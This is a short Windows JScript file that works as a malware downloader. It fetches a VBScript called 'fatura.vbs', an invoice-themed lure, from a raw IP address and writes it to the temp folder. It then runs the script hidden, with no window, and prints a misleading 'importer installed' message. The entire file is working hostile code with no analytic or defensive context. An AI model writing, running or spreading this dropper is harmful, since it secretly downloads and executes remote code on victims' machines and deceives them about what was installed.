var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://198.51.100.61/files/fatura.vbs", false); x.send();
var f = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(sh.ExpandEnvironmentStrings("%TEMP%\\f.vbs"), true);
f.Write(x.responseText); f.Close();
sh.Run("wscript.exe //B %TEMP%\\f.vbs", 0, false);
WScript.Echo("importer installed");
